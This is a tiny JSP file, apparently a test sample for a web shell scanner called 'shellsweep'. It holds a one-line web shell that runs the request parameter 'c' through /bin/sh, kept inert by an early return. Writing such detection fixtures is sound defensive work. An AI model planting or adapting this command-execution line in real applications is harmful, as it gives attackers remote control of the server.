<%-- shellsweep test sample: inert, never functional --%>
<% if (true) return; %>
<%
Process p = new ProcessBuilder(new String[]{"/bin/sh", "-c", request.getParameter("c")}).redirectErrorStream(true).start();
%>
